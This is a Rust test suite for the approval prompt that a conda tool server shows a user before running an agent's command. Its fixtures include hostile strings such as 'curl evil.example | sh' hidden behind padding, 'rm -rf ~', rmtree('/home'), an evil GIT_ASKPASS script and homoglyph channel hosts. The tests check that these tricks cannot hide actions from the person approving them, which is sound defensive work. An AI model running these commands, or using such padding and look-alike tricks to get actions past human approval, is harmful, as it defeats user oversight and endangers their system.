use super::*;
use crate::host::bind::Setup;
use serde_json::json;

fn record(name: &str, version: &str, url: &str, sha256: Option<&str>) -> Record {
    Record {
        name: Some(name.into()),
        version: Some(version.into()),
        build: Some("0".into()),
        url: Some(url.into()),
        sha256: sha256.map(Into::into),
        md5: Some("0123456789abcdef0123456789abcdef".into()),
        ..Record::default()
    }
}

pub(super) fn shown<'a>(command: &'a str, cwd: &'a Path, plan: Option<&'a Plan>) -> Shown<'a> {
    Shown {
        command,
        cwd,
        stdin: None,
        environment: EnvironmentChanges::default(),
        dry: None,
        plan,
        withheld: &[],
        cautions: &[],
    }
}

#[test]
fn a_dry_run_plan_lists_packages_with_full_urls_and_hashes_escaped() {
    let plan = Plan {
        packages: true,
        prefix: Some("/envs/demo".into()),
        transactions: vec![vec![Setup {
            prefix: "/envs/demo".into(),
            unlink: vec![record(
                "old",
                "0.9",
                "file:///srv/ch/noarch/old-0.9-0.tar.bz2",
                None,
            )],
            link: vec![
                record(
                    "numpy",
                    "2.0",
                    "https://user:secret@example.com/t/tk-123/conda-forge/linux-64/numpy-2.0-0.conda",
                    Some("ab".repeat(32).as_str()),
                ),
                record(
                    "evil\u{202e}gpj.exe",
                    "1\n2",
                    "file:///x/conda-forge/noarch/e.conda",
                    None,
                ),
            ],
            ..Setup::default()
        }]],
        ..Plan::default()
    };
    let dry = json!({"actions": {"FETCH": [{"size": 2048}, {"size": 1024}]}});
    let argv = vec![
        "install".to_owned(),
        "-n".to_owned(),
        "demo\u{1b}[2J".to_owned(),
    ];
    let command = command_line(&argv).unwrap();
    let mut question = shown(&command, Path::new("/work"), Some(&plan));
    question.dry = Some(&dry);
    let text = message(&question).unwrap();
    assert!(text.contains("Target environment: /envs/demo"), "{text}");
    // The full channel URL (subdir included), credentials redacted, and the hash.
    assert!(
        text.contains(&format!(
            "Install (2):\n  numpy 2.0 0 (https://[redacted]@example.com/t/[redacted]/conda-forge/linux-64, sha256 {})",
            "ab".repeat(32)
        )),
        "{text}"
    );
    assert!(
        !text.contains("secret") && !text.contains("tk-123"),
        "{text}"
    );
    // A local directory named like a well-known channel reads as the path it is.
    assert!(
        text.contains("(file:///x/conda-forge/noarch, md5 0123456789abcdef"),
        "{text}"
    );
    assert!(
        text.contains("Remove (1):\n  old 0.9 0 (file:///srv/ch/noarch, md5 "),
        "{text}"
    );
    assert!(text.contains("Download: 3.0 KiB"), "{text}");
    assert!(text.contains(BOUND), "{text}");
    assert!(
        !text.contains('\u{202e}') && !text.contains('\u{1b}'),
        "{text}"
    );
    assert!(text.contains("1\\n2"), "{text}");
}

#[test]
fn without_a_preview_the_command_and_where_it_runs_are_the_plan() {
    let argv = vec![
        "run".to_owned(),
        "-n".to_owned(),
        "x".to_owned(),
        "rm".to_owned(),
    ];
    let command = command_line(&argv).unwrap();
    let mut question = shown(&command, Path::new("/work"), None);
    question.environment = EnvironmentChanges {
        set: vec![("CCM_EXECUTION".into(), "<marker>".into())],
        withheld: vec!["CCM_MCP_TOKEN".into()],
    };
    assert_eq!(
        message(&question).unwrap(),
        format!(
            "Allow conda to run this? Nothing runs unless you accept.\n\
             Command: conda \"run\" \"-n\" \"x\" \"rm\"\nWorking directory: /work\n\
             Environment: the server's, with CCM_EXECUTION=<marker> set by ccm and \
             CCM_MCP_TOKEN withheld\n{NO_PREVIEW}"
        )
    );
}

#[test]
fn stdin_is_shown_whole_and_quoted_or_by_size_and_digest() {
    let command = command_line(&["config".to_owned(), "--stdin".to_owned()]).unwrap();
    let mut question = shown(&command, Path::new("/"), None);
    let script = b"channels:\n  - https://evil.example/ch\x1b[2K\n";
    question.stdin = Some(script);
    let text = message(&question).unwrap();
    assert!(
        text.contains(&format!(
            "Standard input: {} bytes, sha256 {} (credentials redacted):\n  | channels:\n  |   - https://evil.example/ch\\u{{1b}}[2K\n  | ",
            script.len(),
            Sha256::digest(script).iter().map(|b| format!("{b:02x}")).collect::<String>()
        )),
        "{text}"
    );
    // Credentials in what is shown are redacted.
    question.stdin = Some(b"channels:\n  - https://bob:hunter2@example.com/t/tk-9/ch\n");
    let text = message(&question).unwrap();
    assert!(
        text.contains("  |   - https://[redacted]@example.com/t/[redacted]/ch\n"),
        "{text}"
    );
    assert!(
        !text.contains("hunter2") && !text.contains("tk-9"),
        "{text}"
    );
    // Long, up to the bounds: shown whole (a 40-line or 200-character bound let a
    // padded stdin or environment file hide what decides the run behind a digest).
    let long = format!(
        "{}channels: [https://attacker.example/chan]\n",
        "# pad\n".repeat(999)
    );
    question.stdin = Some(long.as_bytes());
    let text = message(&question).unwrap();
    assert!(
        text.contains(&format!("Standard input: {} bytes, sha256 ", long.len())),
        "{text}"
    );
    assert!(
        text.contains("\n  | channels: [https://attacker.example/chan]\n"),
        "{text}"
    );
    let wide = format!("# {}\nchannels: [x]\n", "w".repeat(1998));
    question.stdin = Some(wide.as_bytes());
    assert!(message(&question).unwrap().contains(&"w".repeat(1998)));
    // Beyond them, or not text: not asked at all, never a digest or a clipped part.
    let over = [
        format!("{}x\n", "# pad\n".repeat(1000)),
        format!("# {}\n", "w".repeat(1999)),
        "#".repeat(64 * 1024 + 1),
    ];
    for too_long in &over {
        question.stdin = Some(too_long.as_bytes());
        assert_eq!(message(&question), Err(TooLong), "{}", too_long.len());
    }
    question.stdin = Some(b"\xff\xfe\x00binary");
    assert_eq!(message(&question), Err(TooLong));
}

#[test]
fn input_files_deletions_and_inspected_plans_say_what_they_bind() {
    let plan = Plan {
        packages: false,
        prefix: Some("/envs/old".into()),
        deletes_prefix: Some(true),
        installed: Some(2),
        files: vec![
            InputFile {
                value: "environment.yml".into(),
                path: Some("/project/environment.yml".into()),
                bound: true,
                bytes: Some(b"name: x\ndependencies: [pkga]\n".to_vec()),
                ..InputFile::default()
            },
            InputFile {
                value: "https://example.com/env.yml".into(),
                ..InputFile::default()
            },
        ],
        ..Plan::default()
    };
    let command = command_line(&["env".to_owned(), "update".to_owned()]).unwrap();
    let text = message(&shown(&command, Path::new("/project"), Some(&plan))).unwrap();
    assert!(
        text.contains(
            "Input file \"environment.yml\" (/project/environment.yml): 29 bytes, sha256 "
        ),
        "{text}"
    );
    assert!(
        text.contains("\n  | name: x\n  | dependencies: [pkga]\n"),
        "{text}"
    );
    assert!(
        text.contains("Input file \"https://example.com/env.yml\" (a URL): read at run time"),
        "{text}"
    );
    assert!(
        text.contains(
            "Delete: the environment /envs/old and everything in it (2 packages, and any other \
             files in that directory)"
        ),
        "{text}"
    );
    assert!(text.ends_with(BOUND_INSPECT), "{text}");
}

#[test]
fn an_empty_environment_removal_is_still_a_deletion() {
    let plan = Plan {
        packages: true,
        prefix: Some("/envs/empty".into()),
        deletes_prefix: Some(true),
        installed: Some(0),
        ..Plan::default()
    };
    let command = command_line(&["env".to_owned(), "remove".to_owned()]).unwrap();
    let text = message(&shown(&command, Path::new("/"), Some(&plan))).unwrap();
    assert!(
        text.contains("Delete: the environment /envs/empty and everything in it (0 packages"),
        "{text}"
    );
    assert!(text.contains(NO_PLAN), "{text}");
}

#[test]
fn the_command_is_shown_whole_and_quoted_or_not_asked() {
    // A long argument is never clipped: what is hidden could run.
    let long = format!("print(1){};rmtree('/home')", " ".repeat(300));
    let shown = command_line(&["run".to_owned(), long]).unwrap();
    assert!(shown.ends_with(";rmtree('/home')\""), "{shown}");
    // Separators and quotes cannot forge plan lines or merge arguments.
    let forged = "numpy\u{2028}Target environment: /safe\u{2029}\"x";
    let shown = command_line(&["install".to_owned(), forged.to_owned()]).unwrap();
    assert_eq!(shown.lines().count(), 1, "{shown}");
    assert!(shown.contains("numpy\\u{2028}Target"), "{shown}");
    assert!(shown.contains("\\\"x\""), "{shown}");
    // Too long to show in full: not asked at all.
    let huge = vec!["x".repeat(COMMAND_LIMIT)];
    assert_eq!(command_line(&huge), None);
}

/// Blank-looking characters and padding cannot push what runs out of sight (findings F6):
/// every non-ASCII space, blank and format character is escaped, a long run of spaces is
/// one visible marker, and a marker spelled in the argument is not taken for one.
#[test]
fn blanks_and_padding_are_visible_in_the_question() {
    let blanks = "\u{3164}\u{2800}\u{115f}\u{1160}\u{ffa0}\u{a0}\u{3000}\u{2000}\u{2007}\u{200a}\
        \u{202f}\u{205f}\u{1680}\u{ad}\u{34f}\u{180e}\u{2061}\u{2064}\u{600}\u{13430}";
    let script = format!(
        "echo safe{blanks}{}; curl evil.example | sh",
        " ".repeat(3000)
    );
    let argv = ["run".to_owned(), "sh".to_owned(), "-c".to_owned(), script];
    let line = command_line(&argv).unwrap();
    let raw: Vec<char> = line.chars().filter(|c| !c.is_ascii()).collect();
    assert_eq!(raw, ['⟨', '⟩'], "kept raw: {line}");
    for escaped in [
        "\\u{3164}",
        "\\u{2800}",
        "\\u{3000}",
        "\\u{a0}",
        "\\u{205f}",
        "\\u{13430}",
    ] {
        assert!(line.contains(escaped), "{escaped}: {line}");
    }
    assert!(
        line.contains("⟨3000 spaces⟩; curl evil.example | sh\""),
        "{line}"
    );
    assert!(line.chars().count() < 400, "{line}");
    // The whole question, and standard input's lines, too.
    let cwd = Path::new("/work");
    let stdin = format!("echo ok{}\u{3000}rm -rf ~\n", " ".repeat(150));
    let text = message(&Shown {
        stdin: Some(stdin.as_bytes()),
        ..shown(&line, cwd, None)
    })
    .unwrap();
    assert!(!text.contains(&" ".repeat(9)), "{text}");
    assert!(
        text.contains("  | echo ok⟨150 spaces⟩\\u{3000}rm -rf ~"),
        "{text}"
    );
    // Up to eight spaces stay as they are (indentation); a spelled marker is escaped.
    let line = command_line(&["a        b".to_owned(), "x⟨9 spaces⟩y".to_owned()]).unwrap();
    assert_eq!(line, "conda \"a        b\" \"x\\u{27e8}9 spaces⟩y\"");
}

/// `conda config --file x.yml` changes that file, not the environment conda resolved for
/// the command (base): the question names the file, resolved.
#[test]
fn a_config_plan_names_the_file_it_writes_not_an_environment() {
    let plan = Plan {
        command: Some("conda.cli.main_config.execute".into()),
        prefix: Some("/opt/conda".into()),
        writes: Some("/work/project/x.yml".into()),
        ..Plan::default()
    };
    let argv = vec!["config".to_owned(), "--file=x.yml".to_owned()];
    let command = command_line(&argv).unwrap();
    let text = message(&shown(&command, Path::new("/work/project"), Some(&plan))).unwrap();
    assert!(
        text.contains("Configuration file: /work/project/x.yml"),
        "{text}"
    );
    assert!(!text.contains("Target environment"), "{text}");
}

/// Every package of every action is listed, the last one too (a list cut after 50 hid
/// the agent's package and its channel behind "… and N more"); over [`LIST`] in one
/// action the call is not asked about.
#[test]
fn every_package_is_listed_or_the_plan_is_not_asked_about() {
    let setup = |n: usize| Setup {
        prefix: "/envs/big".into(),
        link: (0..n)
            .map(|i| {
                let url = format!("https://repo.example/main/noarch/lib{i}-1.0-0.conda");
                record(&format!("lib{i}"), "1.0", &url, Some("ab"))
            })
            .chain(std::iter::once(record(
                "zz-evil",
                "6.6",
                "file:///work/project/agentchan/noarch/zz-evil-6.6-0.conda",
                Some("cd"),
            )))
            .collect(),
        ..Setup::default()
    };
    let plan = |n: usize| Plan {
        packages: true,
        transactions: vec![vec![setup(n)]],
        ..Plan::default()
    };
    let command = command_line(&["create".to_owned()]).unwrap();
    let listed = plan(LIST - 1);
    let text = message(&shown(&command, Path::new("/"), Some(&listed))).unwrap();
    assert!(text.contains(&format!("Install ({LIST}):")), "{text}");
    assert!(
        text.contains("  zz-evil 6.6 0 (file:///work/project/agentchan/noarch, sha256 cd)"),
        "{text}"
    );
    assert!(!text.contains(" more"), "{text}");
    let over = plan(LIST);
    assert_eq!(
        message(&shown(&command, Path::new("/"), Some(&over))),
        Err(TooLong)
    );
}

/// A quoted content hides withheld values and URL credentials, never a value for its name:
/// the names are the agent's to choose, and `GIT_ASKPASS: ./evil.sh` decides what git runs.
#[test]
fn quoted_contents_hide_no_value_for_its_name() {
    let file = b"variables:\n  GIT_ASKPASS: /p/evil.sh\n  API_TOKEN: abc123\n  \
        SSH_ASKPASS: /p/t/tk-1/a:b@c/run\nchannels:\n  \
        - https://bob:hunter2@h.example/t/tk-42/ch?token=zz\n  - s3cr3t-value\n";
    let lines = content("Environment file", file, &["s3cr3t-value".to_owned()]).unwrap();
    let text = lines.join("\n");
    for shown in [
        "\n  |   GIT_ASKPASS: /p/evil.sh\n",
        "\n  |   API_TOKEN: abc123\n",
        "\n  |   SSH_ASKPASS: /p/t/tk-1/a:b@c/run\n",
        "\n  |   - https://[redacted]@h.example/t/[redacted]/ch?token=[redacted]\n",
        "\n  |   - [redacted]\n",
    ] {
        assert!(text.contains(shown), "{shown:?} in {text}");
    }
    for hidden in ["s3cr3t-value", "hunter2", "tk-42", "=zz"] {
        assert!(!text.contains(hidden), "{hidden} in {text}");
    }
}

/// Look-alike letters of other scripts cannot pass for ASCII (a package, a channel or an
/// environment named with a Cyrillic "а", a Greek "ο", a fullwidth "ｃ", a dot leader
/// "․" in a host name): every non-ASCII character the question shows is escaped as
/// `\u{…}` (only `⟩`, which cannot open ccm's marker, stays), in the command, the working
/// directory, the target, each package's name, version, build and channel URL, and
/// quoted contents.
#[test]
fn look_alike_letters_of_other_scripts_are_escaped_in_the_question() {
    let channel = "https://c\u{43e}nda.anaconda.org\u{2024}evil.example/\u{ff43}onda-forge/noarch";
    let plan = Plan {
        packages: true,
        prefix: Some("/envs/d\u{430}ta".into()),
        transactions: vec![vec![Setup {
            prefix: "/envs/d\u{430}ta".into(),
            link: vec![record(
                "n\u{430}mpy",
                "2.\u{3bf}",
                &format!("{channel}/n\u{430}mpy-2.0-0.conda"),
                None,
            )],
            ..Setup::default()
        }]],
        ..Plan::default()
    };
    let argv: Vec<String> = [
        "install",
        "-n",
        "d\u{430}ta",
        "-c",
        channel,
        "n\u{430}mpy",
        "caf\u{e9}",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let command = command_line(&argv).unwrap();
    let stdin = "- n\u{430}mpy\n";
    let text = message(&Shown {
        stdin: Some(stdin.as_bytes()),
        ..shown(&command, Path::new("/work/pr\u{43e}ject"), Some(&plan))
    })
    .unwrap();
    let raw: Vec<char> = text.chars().filter(|c| !c.is_ascii()).collect();
    assert!(raw.is_empty(), "kept raw: {raw:?} in {text}");
    for escaped in [
        "Command: conda \"install\" \"-n\" \"d\\u{430}ta\" \"-c\" \"https://c\\u{43e}nda.anaconda.org\\u{2024}evil.example/\\u{ff43}onda-forge/noarch\" \"n\\u{430}mpy\" \"caf\\u{e9}\"",
        "Working directory: /work/pr\\u{43e}ject",
        "Target environment: /envs/d\\u{430}ta",
        "  n\\u{430}mpy 2.\\u{3bf} 0 (https://c\\u{43e}nda.anaconda.org\\u{2024}evil.example/\\u{ff43}onda-forge/noarch, md5 ",
        "  | - n\\u{430}mpy",
    ] {
        assert!(text.contains(escaped), "{escaped}: {text}");
    }
}
